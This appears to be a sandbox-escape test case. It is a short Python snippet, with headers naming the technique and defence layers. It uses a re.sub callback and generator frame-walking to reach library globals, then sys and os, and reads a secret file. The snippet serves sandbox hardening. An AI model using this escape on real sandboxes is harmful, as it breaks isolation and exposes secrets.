# class: exceptions and frames
# technique: the frames below a callback that library code called
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import re
box = []
def seen(found):
    def frames():
        yield running.gi_frame.f_back.f_back
    running = frames()
    box.append(next(running).f_globals)
    return ""
re.sub("x", seen, "x")
g = {"sys": box[0]["enum"].sys}
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
